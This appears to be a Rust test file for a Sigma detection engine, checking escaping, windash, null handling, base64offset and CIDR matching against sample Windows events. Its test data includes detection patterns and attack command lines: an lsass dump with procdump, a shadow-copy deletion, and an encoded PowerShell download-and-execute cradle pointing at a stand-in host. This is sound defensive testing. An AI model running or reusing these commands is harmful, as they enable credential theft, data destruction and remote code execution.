//! One test per kind of fault reported against other Sigma engines
//! (shared/cases/sigma-engine-bugs.yaml), named after the fault.

use std::io::Cursor;

use serde_json::json;

use super::*;
use crate::event::reader::{Format, Records};

#[test]
fn three_or_four_backslashes_are_a_literal_double_backslash() {
    for value in [r"'\\\\.\pipe\'", r"'\\\.\pipe\'"] {
        let r = rule(&format!(
            "logsource: {{product: windows, service: system}}\ndetection:\n  selection:\n    \
             EventID: 7045\n    ImagePath|contains: {value}\n  condition: selection\n"
        ));
        let event = json!({"EventID": 7045, "ImagePath": r"cmd.exe /c echo svcx > \\.\pipe\svcx"});
        assert!(fires(&r, event), "{value}");
        assert!(!fires(
            &r,
            json!({"EventID": 7045, "ImagePath": r"> \.\pipe\svcx"})
        ));
    }
}

#[test]
fn trailing_backslash_is_a_plain_character() {
    let r = rule(
        "logsource: {product: windows, service: application}\ndetection:\n  selection:\n    \
         EventID: 1040\n    Data|startswith: 'C:\\Windows\\'\n  condition: selection\n",
    );
    assert!(fires(
        &r,
        json!({"EventID": 1040, "Data": r"C:\Windows\Installer\4a1b2.msi"})
    ));
    assert!(!fires(
        &r,
        json!({"EventID": 1040, "Data": r"C:\WindowsApps\x.msi"})
    ));
}

#[test]
fn windash_covers_unicode_dashes() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    \
         CommandLine|contains|windash: ' -ma '\n  condition: selection\n",
    );
    for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        let line = format!("pd64.exe {dash}ma 612 out.dmp");
        assert!(
            fires(&r, json!({"EventID": 1, "CommandLine": line})),
            "{dash}"
        );
    }
}

#[test]
fn windash_with_all_ors_variants_within_each_value() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    \
         CommandLine|contains|windash|all:\n      - '-accepteula'\n      - '-ma'\n  condition: selection\n",
    );
    let event = json!({"EventID": 1, "CommandLine": "procdump.exe /accepteula /ma 612 lsass.dmp"});
    assert!(fires(&r, event));
    let event = json!({"EventID": 1, "CommandLine": "procdump.exe /accepteula 612 lsass.dmp"});
    assert!(!fires(&r, event), "all still ANDs across the listed values");
}

#[test]
fn string_modifiers_are_case_insensitive_even_under_not() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  \
         known_image_extension:\n    Image|endswith:\n      - '.exe'\n      - '.tmp'\n  \
         condition: not known_image_extension\n",
    );
    let event = json!({"EventID": 1, "Image": r"C:\Windows\System32\SppExtComObj.Exe"});
    assert!(!fires(&r, event));
}

#[test]
fn inner_wildcards_are_case_insensitive() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    \
         CommandLine|contains: 'wmic*shadowcopy*delete'\n  condition: selection\n",
    );
    let event = json!({"EventID": 1, "CommandLine": "WMic ShAdOwCoPy    DELete /nointeractive"});
    assert!(fires(&r, event));
}

#[test]
fn brackets_and_braces_are_not_glob_syntax() {
    let r = rule(
        "logsource: {product: windows, category: ps_script}\ndetection:\n  selection:\n    \
         ScriptBlockText|contains: '[System.Convert]::'\n  condition: selection\n",
    );
    assert!(!fires(
        &r,
        json!({"EventID": 4104, "ScriptBlockText": "$n = $s::Parse('42')"})
    ));
    let text = "[System.Convert]::FromBase64String('QQ==')";
    assert!(fires(&r, json!({"EventID": 4104, "ScriptBlockText": text})));
    let r = sel("a: '{a,b}'");
    assert!(fires(&r, json!({"a": "{a,b}"})));
    assert!(!fires(&r, json!({"a": "a"})));
}

#[test]
fn escaped_star_is_a_literal_star_not_a_wildcard() {
    let body = |value: &str| {
        format!(
            "logsource: {{product: windows, category: process_creation}}\ndetection:\n  \
             selection:\n    ParentCommandLine: '{value}'\n  condition: selection\n"
        )
    };
    let event = json!({"EventID": 1, "ParentCommandLine": r"C:\Windows\System32\svchost.exe"});
    assert!(!fires(
        &rule(&body(r"C:\Windows\System32\*.exe")),
        event.clone()
    ));
    assert!(fires(&rule(&body(r"C:\Windows\System32\\*.exe")), event));
    let literal = json!({"ParentCommandLine": r"C:\Windows\System32*.exe"});
    assert!(fires(&rule(&body(r"C:\Windows\System32\*.exe")), literal));
}

#[test]
fn integer_rule_values_equal_string_event_values() {
    let r = rule(
        "logsource: {product: windows, service: system}\ndetection:\n  selection:\n    \
         EventID: 7045\n    ServiceName:\n      - 'srservice'\n      - 'ipvpn'\n  condition: selection\n",
    );
    assert!(fires(
        &r,
        json!({"EventID": "7045", "Channel": "System", "ServiceName": "ipvpn"})
    ));
    assert!(fires(&r, json!({"EventID": 7045, "ServiceName": "ipvpn"})));
}

#[test]
fn quoted_numeric_rule_values_equal_number_event_values() {
    let r = rule(
        "logsource: {product: windows, service: firewall-as}\ndetection:\n  selection:\n    \
         EventID: 2004\n  filter_main_block:\n    Action: '2'\n  \
         condition: selection and not filter_main_block\n",
    );
    assert!(!fires(
        &r,
        json!({"EventID": 2004, "RuleName": "Test rule", "Action": 2})
    ));
    assert!(!fires(&r, json!({"EventID": 2004, "Action": "2"})));
    assert!(fires(&r, json!({"EventID": 2004, "Action": 3})));
}

#[test]
fn plain_values_match_the_whole_value() {
    let r = rule(
        "logsource: {product: windows, service: dns-server}\ndetection:\n  selection:\n    \
         EventID:\n      - 150\n      - 770\n  condition: selection\n",
    );
    assert!(!fires(
        &r,
        json!({"EventID": 1500, "Channel": "DNS Server"})
    ));
    assert!(!fires(&r, json!({"EventID": "1500"})));
    assert!(fires(&r, json!({"EventID": 770})));
}

/// Logsource gating is the caller's job (the detection module maps
/// `service: windefend` to a Channel); the engine must expose the logsource
/// exactly so the caller can gate, and matches the detection alone.
#[test]
fn logsource_is_exposed_for_gating_by_the_caller() {
    let r = rule(
        "logsource: {product: windows, service: windefend}\ndetection:\n  selection:\n    \
         EventID: 1009\n  condition: selection\n",
    );
    assert_eq!(r.logsource.product.as_deref(), Some("windows"));
    assert_eq!(r.logsource.service.as_deref(), Some("windefend"));
    assert_eq!(r.logsource.category, None);
    let gated = json!({"EventID": 1009, "Channel": "Microsoft-Windows-Wcmsvc/Operational"});
    assert!(
        fires(&r, gated),
        "the detection alone holds; only the logsource excludes this event"
    );
}

#[test]
fn missing_field_matches_a_null_filter() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  \
         image_absolute_path:\n    Image|contains: '\\'\n  filter_null:\n    Image: null\n  \
         filter_empty:\n    Image:\n      - '-'\n      - ''\n  \
         condition: not image_absolute_path and not 1 of filter_*\n",
    );
    let event = json!({"EventID": 1, "Channel": "Microsoft-Windows-RPC/Debug", "ImageName": "Explorer.EXE", "Status": "0x6ba"});
    assert!(!fires(&r, event));
    assert!(fires(&r, json!({"Image": "relative.exe"})));
    assert!(!fires(&r, json!({"Image": ""})));
}

#[test]
fn null_is_not_the_string_null() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    \
         ParentImage|endswith: '\\WmiPrvSe.exe'\n  filter_system:\n    LogonId: '0x3e7'\n  \
         filter_null:\n    LogonId: null\n  condition: selection and not 1 of filter_*\n",
    );
    let parent = r"C:\Windows\System32\wbem\WmiPrvSE.exe";
    assert!(!fires(
        &r,
        json!({"EventID": 1, "ParentImage": parent, "Image": "cmd.exe"})
    ));
    assert!(fires(&r, json!({"ParentImage": parent, "LogonId": "null"})));
    assert!(!fires(
        &r,
        json!({"ParentImage": parent, "LogonId": "0x3E7"})
    ));
}

#[test]
fn null_inside_a_list_of_maps_is_an_ordinary_value() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    \
         CommandLine|endswith: 'svchost.exe'\n    Image|endswith: '\\svchost.exe'\n  filter:\n    \
         - ParentImage|endswith:\n        - '\\rpcnet.exe'\n        - '\\rpcnetp.exe'\n    \
         - CommandLine: null\n  condition: selection and not filter\n",
    );
    let svchost = r"C:\Windows\System32\svchost.exe";
    let event = json!({"EventID": 1, "Image": svchost, "CommandLine": svchost, "ParentImage": r"C:\Windows\System32\services.exe"});
    assert!(fires(&r, event));
    let filtered =
        json!({"Image": svchost, "CommandLine": svchost, "ParentImage": r"C:\x\rpcnet.exe"});
    assert!(!fires(&r, filtered));
}

#[test]
fn all_keyword_list_ands_and_plain_keyword_list_ors() {
    let r = rule(
        "logsource: {product: juniper, service: bgp}\ndetection:\n  keywords:\n    '|all':\n      \
         - ':179'\n      - 'missing MD5 digest'\n  condition: keywords\n",
    );
    let only_port = "bgp_read_message: peer 192.0.2.7:179 connection closed";
    assert!(!fires(&r, json!({"message": only_port})));
    let both = "peer 192.0.2.7:179: Missing MD5 digest";
    assert!(fires(&r, json!({"message": both})));
    let r = rule(
        "logsource: {}\ndetection:\n  keywords:\n    - ':179'\n    - 'missing MD5 digest'\n  \
         condition: all of keywords\n",
    );
    assert!(
        fires(&r, json!({"message": only_port})),
        "all of does not AND one list"
    );
}

/// The raw evtx shape keeps the provider under `#attributes`; the event
/// module gives such records their flat Sigma names, and the engine must
/// also reach odd nested paths and field names with spaces directly.
#[test]
fn raw_evtx_field_names_resolve() {
    let r = rule(
        "logsource: {product: windows, service: security}\ndetection:\n  selection:\n    \
         EventID: 1102\n    Provider_Name: 'Microsoft-Windows-Eventlog'\n  condition: selection\n",
    );
    let event = json!({"Event": {"System": {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog",
            "Guid": "{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"}},
        "EventID": 1102, "Channel": "Security", "Computer": "host1"},
        "UserData": {"LogFileCleared": {"SubjectUserName": "admin1"}}}});
    assert!(fires(&r, event));
    let nested = sel("Raw.Provider.#attributes.Name: 'Microsoft-Windows-Eventlog'");
    let raw = json!({"Raw": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Eventlog"}}}});
    assert!(fires(&nested, raw));
    let spaced = sel("'Threat Name': 'Virus:DOS/EICAR_Test_File'");
    assert!(fires(
        &spaced,
        json!({"Threat Name": "Virus:DOS/EICAR_Test_File"})
    ));
}

#[test]
fn an_absent_field_fails_only_its_own_branch() {
    let r = rule(
        "logsource: {product: windows, category: image_load}\ndetection:\n  selection:\n    \
         - Hashes|contains: 'SHA256=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F9'\n    \
         - sha256: '0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9'\n  condition: selection\n",
    );
    let hashes = "SHA1=1111111111111111111111111111111111111111,MD5=22222222222222222222222222222222,SHA256=0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F9,IMPHASH=33333333333333333333333333333333";
    assert!(fires(
        &r,
        json!({"EventID": 7, "ImageLoaded": r"C:\ProgramData\app\ffmpeg.dll", "Hashes": hashes})
    ));
}

#[test]
fn base64offset_finds_every_shifted_encoding_with_case() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    \
         CommandLine|base64offset|contains: 'IEX (New'\n  condition: selection\n",
    );
    let line = "powershell.exe -nop -c \"iex([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('JGM9TmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50OyBJRVggKE5ldy1PYmplY3QgTmV0LldlYkNsaWVudCkuRG93bmxvYWRTdHJpbmcoJ2h0dHA6Ly9leGFtcGxlLmludmFsaWQvYS5wczEnKQ==')))\"";
    assert!(fires(&r, json!({"EventID": 1, "CommandLine": line})));
    assert!(fires(&r, json!({"CommandLine": "SUVYIChOZX"})));
    assert!(fires(&r, json!({"CommandLine": "xlFWCAoTmV3x"})));
    assert!(
        !fires(&r, json!({"CommandLine": "jrvggke5ld"})),
        "base64 keeps its case"
    );
}

#[test]
fn cidr_matches_parsed_addresses_not_string_prefixes() {
    let r = rule(
        "logsource: {product: windows, category: network_connection}\ndetection:\n  selection:\n    \
         DestinationIp|cidr: '2001:db8::/64'\n  condition: selection\n",
    );
    assert!(fires(
        &r,
        json!({"EventID": 3, "DestinationIp": "2001:db8::1234:5678", "DestinationPort": 443})
    ));
    assert!(fires(
        &r,
        json!({"DestinationIp": "2001:0DB8:0000:0000:ffff::1"})
    ));
    assert!(!fires(&r, json!({"DestinationIp": "2001:db8:0:1::1"})));
    let r = sel("ip|cidr: 172.16.0.0/12");
    assert!(fires(&r, json!({"ip": "172.31.255.1"})));
    assert!(!fires(&r, json!({"ip": "172.32.0.1"})));
}

#[test]
fn dotted_field_names_reach_nested_json() {
    let r = rule(
        "logsource: {product: aws, service: cloudtrail}\ndetection:\n  selection:\n    \
         userIdentity.type: 'Root'\n    eventName: 'ConsoleLogin'\n  condition: selection\n",
    );
    let nested = json!({"eventSource": "signin.amazonaws.com", "eventName": "ConsoleLogin",
        "userIdentity": {"type": "Root", "arn": "arn:aws:iam::123456789012:root"}});
    assert!(fires(&r, nested));
    assert!(fires(
        &r,
        json!({"eventName": "ConsoleLogin", "userIdentity.type": "Root"})
    ));
}

#[test]
fn a_corrupt_record_does_not_stop_matching_the_others() {
    let r = rule(
        "logsource: {product: windows, category: process_creation}\ndetection:\n  selection:\n    \
         Image|endswith: '\\whoami.exe'\n  condition: selection\n",
    );
    let log = "{\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\System32\\\\whoami.exe\"}\n\
               {\"EventID\":1,\"Image\":\"C:\\\\Windo\n\
               {\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\System32\\\\WHOAMI.EXE\"}\n";
    let (mut matched, mut corrupt) = (0, 0);
    for item in Records::new(Cursor::new(log), Format::JsonLines) {
        match item.parse() {
            Ok((_, event)) => matched += usize::from(r.matches(&event)),
            Err(_) => corrupt += 1,
        }
    }
    assert_eq!((matched, corrupt), (2, 1));
}

#[test]
fn string_event_ids_and_spaced_field_names_from_evtx_dumps() {
    let r = rule(
        "logsource: {product: windows, service: windefend}\ndetection:\n  selection:\n    \
         EventID: 1116\n  condition: selection\n",
    );
    assert!(fires(
        &r,
        json!({"EventID": "1116", "Threat Name": "Virus:DOS/EICAR_Test_File"})
    ));
    assert!(!fires(&r, json!({"EventID": "1117"})));
}
